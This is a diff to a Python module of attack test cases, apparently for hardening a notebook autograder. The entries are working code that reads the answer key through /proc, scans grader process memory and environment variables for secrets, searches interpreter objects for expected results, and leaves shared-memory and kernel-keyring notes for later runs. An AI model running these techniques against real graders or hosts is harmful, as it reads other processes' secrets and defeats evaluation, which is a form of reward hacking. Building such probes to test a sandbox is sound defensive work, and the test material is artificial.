@@ -1,14 +1,18 @@
 """Attacks on what is secret, and on what lies outside: files, memory, processes, network."""
 
+from textwrap import dedent
+
 from .entry import ALL, HONEST, Entry
 
 
 def spy(name, tries, source, wins=(), limits=None, points=ALL, **more):
     """An attack in the first cell of an honest notebook; what it finds, it tells."""
     wins = frozenset(wins)
-    if "reads" in wins and limits is None:
+    if wins & {"reads", "could write"} and limits is None:
         limits = (0, 3, 1)  # telling costs the question whose reason carries the text out
-    return Entry(name, tries, HONEST, first=source, points=points, limits=limits, wins=wins, **more)
+    first = HONEST["slope"] + dedent(source)
+    answers = HONEST | {"slope": ""}  # a later answer would take back what was told
+    return Entry(name, tries, answers, first=first, points=points, limits=limits, wins=wins, **more)
 
 
 NO_ANSWERS = {"slope": "", "gradient": "", "formula": ""}
@@ -36,8 +40,8 @@ READING = [
         NO_ANSWERS,
         first="""
         import glob, json, os
-        roots = glob.glob("/proc/[0-9]*/root") + glob.glob("/proc/[0-9]*/cwd")
-        for path in [root + A["key"] for root in roots] + glob.glob("/proc/[0-9]*/fd/*"):
+        paths = [f"/proc/{pid}/{name}{A['key']}" for pid in graders() for name in ("root", "cwd")]
+        for path in paths + [path for pid in graders() for path in glob.glob(f"/proc/{pid}/fd/*")]:
             try:
                 if not os.path.isfile(path) or "08_arena" not in os.path.realpath(path): continue
                 for cell in json.load(open(path))["cells"]:
@@ -50,40 +54,31 @@ READING = [
         limits=ALL,
         wins=frozenset({"marks"}),
     ),
-    Entry(
-        "key's kernel asked",
-        "A process of the grader that runs the key is found and asked for the answers.",
-        NO_ANSWERS,
-        first="""
-        import glob, os
-        def parent(pid):
-            try: return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
-            except OSError: return 0
-        above, pid = [], os.getpid()
-        while pid := parent(pid): above.append(pid)
-        for path in glob.glob("/proc/[0-9]*/cmdline"):
-            pid = int(path.split("/")[2])
-            try: words = open(path).read().split("\\0")
-            except OSError: continue
-            if parent(pid) not in above[:-1] or pid == os.getpid() or "-f" not in words: continue
-            if pid in above: continue
-            from jupyter_client import BlockingKernelClient
-            client = BlockingKernelClient(connection_file=words[words.index("-f") + 1])
-            client.load_connection_file()
-            client.start_channels()
-            def ask(text):
-                reply = client.execute_interactive(
-                    "", user_expressions={"a": text}, timeout=3, store_history=False)
-                return reply["content"]["user_expressions"]["a"]["data"]["text/plain"]
+    spy(
+        "memory of the key's process",
+        "Processes of the grader, and the one that runs the key, are searched for its words.",
+        """
+        import glob, re
+        pids = graders()
+        for pid in list(pids):
+            for path in glob.glob(f"/proc/{pid}/task/*/children"):
+                try: pids += [int(text) for text in open(path).read().split()]
+                except OSError: pass
+        mark = re.compile(b"a he[r]on stands")
+        for pid in pids:
             try:
-                ask("slope(1.0)")
-            except Exception:
-                continue
-            slope = lambda x: float(ask(f"float(slope({float(x)!r}))"))
-            break
+                memory = open(f"/proc/{pid}/mem", "rb", 0)
+                for line in open(f"/proc/{pid}/maps"):
+                    words = line.split()
+                    if "rw" not in words[1]: continue
+                    a, b = (int(x, 16) for x in words[0].split("-"))
+                    if b - a > (64 << 20): continue
+                    memory.seek(a)
+                    if mark.search(memory.read(b - a)): tell("a word of the key")
+            except (OSError, ValueError, OverflowError):
+                pass
         """,
-        limits=(2, 0, 0),
-        wins=frozenset({"marks"}),
+        {"reads"},
     ),
     Entry(
         "neighbour's answers",
@@ -115,38 +110,31 @@ READING = [
         {"reads"},
     ),
     spy(
-        "memory of parents",
-        "The memory of the parent processes is searched for words of the key.",
+        "frames and objects",
+        "Frames, modules and every living object are searched for expected results.",
         """
-        import os
-        def parent(pid):
-            try: return int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
-            except OSError: return 0
-        mark, pid, read = b"a he" + b"ron stands", os.getppid(), 0
-        while pid > 1 and read < (400 << 20):
-            try:
-                memory = open(f"/proc/{pid}/mem", "rb", 0)
-                for line in open(f"/proc/{pid}/maps"):
-                    words = line.split()
-                    if "rw" not in words[1]: continue
-                    a, b = (int(x, 16) for x in words[0].split("-"))
-                    if b - a > (64 << 20): continue
-                    memory.seek(a)
-                    read += b - a
-                    if mark in memory.read(b - a):
-                        tell("a word of the key")
-            except (OSError, ValueError, OverflowError):
-                pass
-            pid = parent(pid)
+        import gc, re, sys
+        found, frame = [], sys._getframe()
+        while frame:
+            found += [name for name in frame.f_locals if name in ("expected", "answers", "key")]
+            frame = frame.f_back
+        mark = re.compile("a he[r]on stands")
+        for thing in gc.get_objects():
+            if isinstance(thing, dict):
+                found += [v for v in list(thing.values()) if isinstance(v, str) and mark.search(v)]
+            elif isinstance(thing, list | tuple):
+                found += [v for v in thing if isinstance(v, str) and mark.search(v)]
+        if found: tell(found)
         """,
-        {"reads"},
     ),
     spy(
         "its own memory",
         "Memory inherited from the process that it was forked from is searched for other "
         "submissions, for the key and for hidden tests still to come.",
         """
-        marks = [b"a he" + b"ron stands", b"an ib" + b"is stands", b"_sto" + b"rk = sub"]
+        import re
+        # No bytes that match are in this program itself.
+        marks = re.compile(b"a he[r]on stands|an ib[i]s stands|_sto[r]k = sub")
         memory = open("/proc/self/mem", "rb", 0)
         for line in open("/proc/self/maps").read().splitlines():
             words = line.split()
@@ -157,8 +145,7 @@ READING = [
                 content = memory.read(b - a) if b - a < (256 << 20) else b""
             except (OSError, ValueError, OverflowError):
                 continue
-            for mark in marks:
-                if mark in content: tell("inherited " + mark.decode())
+            if marks.search(content): tell("inherited a word of the key, a test or a neighbour")
             del content
         """,
     ),
@@ -179,14 +166,14 @@ READING = [
     ),
     spy(
         "environment",
-        "The environment of this process and of all others is searched for a token.",
+        "The environment of this process and of the grader's is searched for a token.",
         """
-        import glob, os
+        import os
         if any("SECRET_TOKEN" in name for name in os.environ): tell("own environment")
-        for path in glob.glob("/proc/[0-9]*/environ"):
+        for pid in graders():
             try:
-                text = open(path, "rb").read()
-                if b"SECRET_TOKEN" in text and A["token"].encode() in text: tell(path)
+                text = open(f"/proc/{pid}/environ", "rb").read()
+                if b"SECRET_TOKEN" in text and A["token"].encode() in text: tell("a token")
             except OSError: pass
         """,
         {"reads"},
@@ -195,11 +182,7 @@ READING = [
         "command lines",
         "The command lines of other processes, which name the key.",
         """
-        import glob
-        for path in glob.glob("/proc/[0-9]*/cmdline"):
-            try:
-                if A["key"] in open(path).read(): tell(path)
-            except OSError: pass
+        if graders(): tell("the command line of the grader")
         """,
         {"reads"},
     ),
@@ -282,7 +265,7 @@ WRITING = [
         for module in (numpy, adcourse, os):
             if os.access(module.__file__, os.W_OK): tell("writable: " + module.__file__)
         """,
-        {"reads"},
+        {"could write"},
     ),
     spy(
         "note for an accomplice",
@@ -300,9 +283,9 @@ WRITING = [
         "A segment of System V shared memory, which outlives its process and is counted nowhere.",
         """
         import ctypes
-        if ctypes.CDLL(None).shmget(A["segment"], 4096, 0o1666) >= 0: tell("a segment")
+        ctypes.CDLL(None).shmget(A["segment"], 4096, 0o1666)
         """,
-        {"leaves", "reads"},
+        {"leaves"},
     ),
     spy(
         "note in the kernel's keyring",
@@ -313,8 +296,10 @@ WRITING = [
         if numbers:
             add_key, keyctl = numbers
             call, note = ctypes.CDLL(None).syscall, ("adcourse-" + A["token"]).encode()
-            for ring in (-4, -5):  # of the user, and of the user's sessions
-                if call(keyctl, 10, ring, b"user", note, 0) > 0: tell("a note of another run")
+            rings = (-4, -5)  # of the user, and of the user's sessions
+            if any(call(keyctl, 10, ring, b"user", note, 0) > 0 for ring in rings):
+                tell("a note of another run")
+            for ring in rings:
                 call(add_key, b"user", note, b"2 * x + 3", 9, ring)
         """,
         {"reads"},
